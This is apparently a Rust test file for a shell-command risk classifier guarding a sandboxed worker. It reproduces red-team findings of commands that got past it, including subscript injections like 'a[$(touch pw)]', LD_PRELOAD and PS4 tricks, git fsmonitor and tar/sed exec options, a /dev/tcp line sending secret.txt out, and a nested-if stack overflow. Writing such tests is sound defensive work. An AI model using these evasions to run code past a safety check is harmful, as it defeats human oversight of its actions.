//! The red-team findings about the classifier (F4, F7's git and reader options, F8, F9, F10),
//! each as it was reproduced: every command here ran code, reached the network or crashed the
//! worker while being rated low or medium. Each must now be high, for the reason given.

use std::path::Path;

use rstest::rstest;

use super::*;

fn analyse(cmd: &str) -> Analysis {
    analyse_command(
        cmd,
        Place {
            root: Path::new("/work/ws"),
            protected: &Protected::NONE,
        },
    )
}

fn reasons(a: &Analysis) -> String {
    a.all_reasons().join(" | ")
}

#[rstest]
// F4: arithmetic contexts evaluate a variable's value, and a subscript in it runs a command.
#[case::test_eq("x='a[$(touch pw1)]'; [[ x -eq 0 ]]", "arithmetic")]
#[case::let_in_list("true; let 'a[$(touch pw2)]'", "let")]
#[case::declare_integer("declare -i y='a[$(touch pw3)]'", "integer")]
#[case::local_integer("f=1; local -i y=1", "integer")]
#[case::printf_v("printf -v 'a[$(touch pw4)]' x", "subscript")]
#[case::test_v("test -v 'a[$(touch pw5)]'", "subscript")]
#[case::read_subscript("read 'a[$(touch pw8)]' <<< x", "subscript")]
#[case::double_paren("x='a[$(touch pw10)]'; (( x ))", "arithmetic")]
#[case::arith_expansion("echo $(( x + 1 ))", "arithmetic")]
#[case::arith_for("for (( i = 0; i < n; i++ )); do :; done", "arithmetic")]
#[case::subscript_expansion("echo ${a[i]}", "subscript")]
#[case::element_assignment("a[i]=1", "subscript")]
#[case::unset_subscript("unset 'a[$(touch pw)]'", "subscript")]
// F4: prompt expansion runs the substitutions in a value.
#[case::heredoc_prompt("x='$(touch pw)'; cat <<EOF\n${x@P}\nEOF", "prompt expansion")]
#[case::test_prompt("x='$(touch pw)'; [[ ${x@P} ]]", "prompt expansion")]
#[case::case_prompt("x='$(touch pw)'; case ${x@P} in *) ;; esac", "prompt expansion")]
#[case::for_prompt("x='$(touch pw)'; for i in ${x@P}; do :; done", "prompt expansion")]
// F4: stored code, and variables that make bash or programs run code.
#[case::stored_code("x='$(touch pw)'", "stores text")]
#[case::declare_ps4("declare PS4='$(touch pw7)'; set -x; true", "PS4")]
#[case::bare_ps4("PS4='$(touch pw7)'; set -x; true", "PS4")]
#[case::declare_path("declare PATH=.:/usr/bin:/bin; ls", "PATH")]
#[case::export_ld_preload("declare -x LD_PRELOAD=./evil.so; ls", "LD_PRELOAD")]
#[case::printf_v_path("printf -v PATH '%s' .", "PATH")]
#[case::declare_code("declare y='$(touch pw)'", "stores text")]
// F4 and F7: programs' own options that run a program.
#[case::git_grep_o("git grep -O'touch pw' foo", "git grep -O")]
#[case::git_grep_pager("git grep --open-files-in-pager=x foo", "git grep -O")]
#[case::git_config_env("X='touch pw' git --config-env=core.fsmonitor=X status", "git -c")]
#[case::git_config_env_diff("X='touch pw;:' git --config-env=diff.external=X diff", "git -c")]
#[case::git_log_output("git log --output=/tmp/out", "writes")]
#[case::rg_pre("rg --pre sh . script.sh", "runs a program")]
#[case::fd_exec("fd . -x sh -c 'id>pw'", "runs a program")]
#[case::fd_exec_batch("fd . --exec-batch rm", "runs a program")]
#[case::bat_pager("bat --paging=always --pager='touch pw' README", "runs a program")]
// F7: programs' own exec options, by getopt's rules (prefixes, attached values, clusters).
#[case::sed_e_command("sed -n '1e touch pwsed' README", "`e`")]
#[case::sed_e_flag("sed 's/x/id/e' README", "`e`")]
#[case::sed_w_flag("sed 's/x/y/w /tmp/out' README", "writes a file")]
#[case::sed_w_expression("sed -e 1p -e '2w /tmp/out' README", "writes a file")]
#[case::sed_script_file("sed -f x.sed README", "cannot see")]
#[case::tar_attached_i("tar -cf /dev/null -I'touch pwt1' README", "runs a program")]
#[case::tar_prefix_compress("tar -cf x.tar --use-compress-prog='touch pw' README", "runs a program")]
#[case::tar_prefix_to_command("tar -xf x.tar --to-com='sh pw'", "runs a program")]
#[case::tar_prefix_checkpoint("tar -cf x.tar --checkpoint-act=exec='id' README", "runs a program")]
#[case::split_filter("split --filter='touch pws' README", "runs a program")]
#[case::install_strip("install -s --strip-prog=./evil.sh README inst-out", "runs a program")]
#[case::zip_unzip_prefix("zip -T --unzip-com='sh evil.sh' a.zip README", "runs a program")]
#[case::python_cluster("python3 -Ic 'import os; os.system(\"id\")'", "inline code")]
#[case::perl_we("perl -we 'system(\"id\")'", "inline code")]
#[case::perl_lne("perl -lne 'system(\"id\")' README", "inline code")]
#[case::ruby_we("ruby -we 'system(\"id\")'", "inline code")]
// F8: bash's /dev/tcp is a network connection in either direction.
#[case::dev_tcp_read(
    "{ printf 'GET /'; tr -dc A-Za-z0-9- < secret.txt; } 3</dev/tcp/127.0.0.1/18080 >&3",
    "network connection"
)]
#[case::dev_udp_write("echo x > /dev/udp/10.0.0.1/53", "network connection")]
// F9: job control puts jobs in process groups of their own.
#[case::set_m("set -m; sleep 96 >/dev/null 2>&1 &", "job control")]
#[case::set_o_monitor("set -o monitor; true", "job control")]
#[case::set_cluster("set -em; true", "job control")]
fn bash_running_text_as_code_is_high(#[case] cmd: &str, #[case] why: &str) {
    let a = analyse(cmd);
    assert_eq!(a.risk, Risk::High, "{cmd}: {}", reasons(&a));
    assert!(
        reasons(&a).to_lowercase().contains(&why.to_lowercase()),
        "{cmd}: expected a reason mentioning {why:?}, got {}",
        reasons(&a)
    );
}

/// F10: about 1,500 nested `if`s overflowed the parser's stack and aborted the worker. Every
/// compound keyword counts towards the nesting bound, so the parser never sees such a command.
#[rstest]
#[case::ifs("if :; then ", "; fi")]
#[case::whiles("while :; do ", "; done")]
#[case::untils("until :; do ", "; done")]
#[case::fors("for x in 1; do ", "; done")]
#[case::cases("case x in x) ", ";; esac")]
fn deeply_nested_compound_commands_are_high_without_recursing(
    #[case] open: &str,
    #[case] close: &str,
) {
    let n = 1_500;
    let cmd = format!("{}:{}", open.repeat(n), close.repeat(n));
    assert!(cmd.len() <= MAX_COMMAND_BYTES, "{} bytes", cmd.len());
    let a = analyse(&cmd);
    assert_eq!(a.risk, Risk::High, "{}", reasons(&a));
    assert!(reasons(&a).contains("too complex"), "{}", reasons(&a));
}

/// What stays as it was: the same builtins and forms without anything bash would evaluate.
#[rstest]
#[case("echo $(( 1 + 2 ))", Risk::Medium)]
#[case("(( 16#ff > 0x1f )) && ls", Risk::Low)]
#[case("[[ 3 -gt 2 ]] && ls", Risk::Low)]
#[case("test -f README", Risk::Low)]
#[case("printf '%s\\n' a b", Risk::Low)]
#[case("git grep hello", Risk::Low)]
#[case("git log --oneline -5", Risk::Low)]
#[case("declare -a names", Risk::Low)]
#[case("set -e; ls", Risk::Low)]
#[case("x=hello; echo done", Risk::Low)]
#[case("rg -n TODO src", Risk::Low)]
#[case("fd -e rs", Risk::Low)]
#[case("sed -n '1,20p' notes.txt", Risk::Low)]
#[case("sed 's/a/e/g' notes.txt", Risk::Low)]
#[case("sed -i 's/foo/bar/' notes.txt", Risk::Medium)]
#[case("tar -czf backup.tgz src", Risk::Medium)]
#[case("python3 -W ignore tool.py", Risk::Medium)]
#[case("perl -w tool.pl", Risk::Medium)]
fn the_same_forms_without_code_keep_their_rating(#[case] cmd: &str, #[case] risk: Risk) {
    let a = analyse(cmd);
    assert_eq!(a.risk, risk, "{cmd}: {}", reasons(&a));
}
